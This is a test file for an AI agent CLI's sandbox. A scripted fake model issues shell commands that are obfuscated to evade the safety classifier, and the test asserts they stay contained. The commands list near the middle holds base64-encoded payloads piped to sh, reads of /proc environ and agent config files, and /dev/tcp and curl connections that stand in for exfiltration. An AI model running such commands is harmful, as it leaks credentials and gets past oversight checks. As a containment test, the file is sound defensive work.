import assert from "node:assert/strict";
import { join } from "node:path";
import { startFakeOpenAIServer } from "../../src/testing/fake_openai_server.ts";
import { sandboxTest } from "../_helpers/sandbox.ts";
import { odekFixture, toolMessages } from "./_odek.ts";

/**
 * The containment suite's checks through the real CLI (`odek run --yes`, the real classifier,
 * approver and sandbox context as composed for a run, with the core's own permission flags):
 * commands that hide what they do from the classifier still reach nothing outside the scope.
 */
sandboxTest(
  "odek run --yes: hidden reads, writes and connections stay contained end to end",
  async () => {
    await using fx = await odekFixture();
    const out = join(fx.home, "..", "out");
    await Deno.mkdir(out);
    const sentinel = join(out, "sentinel.txt");
    await Deno.writeTextFile(sentinel, "outside sentinel\n");
    const apiKey = `CANARY-API-KEY-${crypto.randomUUID()}`;
    const task = `CANARY-TASK-${crypto.randomUUID()}`;
    await Deno.writeTextFile(join(fx.workspace, "where.txt"), fx.odekHome);
    let connections = 0;
    const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const accepting = (async () => {
      for await (const conn of listener) {
        connections++;
        conn.close();
      }
    })().catch(() => {});
    const port = (listener.addr as Deno.NetAddr).port;
    const payload = btoa(`echo pwned >> ${sentinel}; cat /proc/[0-9]*/environ | tr '\\0' '\\n'`);
    await Deno.writeTextFile(join(fx.workspace, "payload.b64"), payload);
    const commands = [
      'p=$(cat where.txt); cat "$p"/config.jsonc "$p"/sessions/* 2>&1; ls -A "$p"',
      "base64 -d payload.b64 | sh", // the classifier decodes literal base64, not files
      `echo hi > /dev/tcp/127.0.0.1/${port}; curl -sS -m 5 http://127.0.0.1:${port}/`,
      "env; tr '\\0' '\\n' < /proc/1/environ",
      `n=$(cat where.txt | wc -c); exec 3<>/dev/tcp/127.0.0.1/${port}; echo $n >&3`,
    ];
    await using server = await startFakeOpenAIServer({
      turns: [
        {
          toolCalls: commands.map((command, i) => ({
            id: `c${i}`,
            name: "shell",
            arguments: { command },
          })),
        },
        { text: "done" },
      ],
    });
    const result = await fx.run(["run", "--yes", "--base-url", server.url, task], {
      env: { ODEK_API_KEY: apiKey },
      noTerminal: true,
    });
    listener.close();
    await accepting;
    assert.equal(result.code, 0, result.stderr);
    const tools = toolMessages(server.requests[1].body);
    assert.equal(tools.length, commands.length);
    for (const message of tools) {
      assert.ok(!message.content.includes(apiKey), `the API key leaked: ${message.content}`);
      assert.ok(!message.content.includes(task), `the session journal leaked: ${message.content}`);
    }
    // They ran (approved or allowed), and failed inside the sandbox.
    assert.match(tools[0].content, /No such file or directory/, tools[0].content);
    assert.match(tools[1].content, /Read-only file system/, tools[1].content);
    assert.equal(await Deno.readTextFile(sentinel), "outside sentinel\n");
    assert.equal(connections, 0, "a sandboxed command reached host loopback");
  },
);
